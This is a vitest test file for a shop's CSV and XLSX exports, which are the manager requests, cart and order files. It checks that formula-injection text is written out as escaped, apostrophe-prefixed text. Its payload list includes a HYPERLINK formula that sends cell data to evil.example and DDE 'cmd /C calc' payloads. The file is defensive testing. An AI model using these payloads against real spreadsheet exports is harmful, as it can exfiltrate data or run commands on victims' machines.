/**
 * CSV formula injection (issue #33): text that a spreadsheet would run as a formula ('=', '+',
 * '-', '@', a tab, carriage return or NUL first) leaves every file the shop writes as text,
 * behind an apostrophe; numbers in XLSX stay numbers. One test per export.
 */
import { and, eq, isNotNull } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packingLimits, products, stock, users } from '@/server/db/schema';
import { DEMO_HEAD_EMAIL } from '@/server/db/seed/accounts';
import { BUYER_HEADER, backends, form, startApi, type TestApi } from '../../support/api';
import { createBuyer, type TestBuyer } from '../../support/buyers';

/** What the probe put into a visitor's product_name, and what each becomes. */
const payloads = [
  `=HYPERLINK("http://evil.example/?d="&A2&B2;"Открыть")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `-2+3+cmd|' /C calc'!A0`,
];

/** A CSV as a spreadsheet splits it: ';' between cells, "quoted ""cells""", CRLF rows. */
function readCsv(bytes: ArrayBuffer): string[][] {
  const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  return rows;
}

const runsAsFormula = (cell: string) => /^[=+\-@\t\r\0]/.test(cell);

describe.each(backends())('spreadsheet exports on %s', (backend) => {
  let api: TestApi;
  let address = 0;

  beforeAll(async () => {
    api = await startApi(backend);
  });
  afterAll(() => api?.close());

  it("the managers' requests export keeps a visitor's formula as text", async () => {
    const [head] = await api.handle.db
      .select({ id: users.id })
      .from(users)
      .where(eq(users.email, DEMO_HEAD_EMAIL));
    for (const product_name of payloads) {
      const body = form({
        fio: 'Формулова Ирина',
        phone: '+7 (916) 555-12-34',
        email: 'irina@example.ru',
        consent: 'true',
        stock: 'msk',
        product_name,
      });
      const sent = await api.call('/catalog/sampleOrder/', {
        ...body,
        headers: {
          ...(body.headers as Record<string, string>),
          'x-forwarded-for': `10.33.4.${++address}`,
        },
      });
      expect(sent.status).toBe(200);
    }
    const response = await api.call(
      `/manager/requests/export?q=${encodeURIComponent('Формулова')}`,
      {
        headers: { [BUYER_HEADER]: `${head!.id}:1:head` },
      },
    );
    expect(response.status).toBe(200);
    const [header, ...rows] = readCsv(await response.arrayBuffer());
    expect(rows).toHaveLength(payloads.length);
    const product = header!.indexOf('Полотно');
    const phone = header!.indexOf('Телефон');
    // Newest first; each payload comes back whole, behind the apostrophe.
    expect(rows.map((row) => row[product]).reverse()).toEqual(payloads.map((p) => `'${p}`));
    // The accepted price: a phone starting with '+' is shown with the apostrophe too.
    expect(rows[0]![phone]).toBe("'+7 (916) 555-12-34");
    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
  });

  describe("the cart's and an order's lines", () => {
    let buyer: TestBuyer;
    let productId: number;

    beforeAll(async () => {
      const db = api.handle.db;
      buyer = await createBuyer(api);
      const [roll] = await db.select().from(packingLimits).where(eq(packingLimits.packing, 'roll'));
      const [row] = await db
        .select({ id: products.id })
        .from(products)
        .where(
          and(eq(products.packing, 'roll'), eq(products.active, true), isNotNull(products.article)),
        )
        .orderBy(products.id)
        .limit(1);
      productId = row!.id;
      // The catalogue is the shop's own, but it is text from outside the code all the same.
      await db
        .update(products)
        .set({ title: payloads[0]!, color: payloads[2]!, article: payloads[3]! })
        .where(eq(products.id, productId));
      await db
        .insert(stock)
        .values({ productId, storeId: buyer.storeId, amount: roll!.stepKg * 10 })
        .onConflictDoUpdate({
          target: [stock.productId, stock.storeId],
          set: { amount: roll!.stepKg * 10 },
        });
      const added = await api.call(
        '/basket/addItemsToBasket',
        buyer.init(form({ product_id: String(productId), quantity: String(roll!.stepKg) })),
      );
      expect(added.status).toBe(200);
    });

    async function expectCsvSafe(path: string) {
      const response = await api.call(path, buyer.init());
      expect(response.status).toBe(200);
      const [, line] = readCsv(await response.arrayBuffer());
      expect(line!.slice(0, 2)).toEqual([`'${payloads[3]}`, `'${payloads[2]}`]);
      expect(line![3]).toBe(`'${payloads[0]}`);
      expect(line!.filter(runsAsFormula)).toEqual([]);
    }

    async function expectXlsxSafe(path: string) {
      const response = await api.call(path, buyer.init());
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await response.arrayBuffer());
      const row = workbook.worksheets[0]!.getRow(2);
      expect(row.getCell(1).value).toBe(`'${payloads[3]}`);
      expect(row.getCell(2).value).toBe(`'${payloads[2]}`);
      expect(row.getCell(4).value).toBe(`'${payloads[0]}`);
      // Numbers stay number cells: only text needs the guard.
      expect(typeof row.getCell(3).value).toBe('number');
      expect(typeof row.getCell(5).value).toBe('number');
    }

    it('the cart export (CSV and XLSX) keeps a formula in a title, colour or article as text', async () => {
      await expectCsvSafe('/basket/export?format=csv');
      await expectXlsxSafe('/basket/export?format=xlsx');
    });

    it("an order's export (CSV and XLSX) keeps a formula in its lines as text", async () => {
      const placed = await api.json<{ data?: { orderId: number } }>(
        '/order/createOrder',
        buyer.init(
          form({
            idempotency_key: `key-${crypto.randomUUID()}`,
            recipient_name: 'Петров Пётр',
            recipient_phone: '+7 (912) 345-67-89',
            delivery: 'pickup',
            payment: 'card',
            consent: 'true',
          }),
        ),
      );
      expect(placed.status, JSON.stringify(placed.body)).toBe(200);
      const id = placed.body.data!.orderId;
      await expectCsvSafe(`/order/export?id=${id}&format=csv`);
      await expectXlsxSafe(`/order/export?id=${id}&format=xlsx`);
    });
  });
});
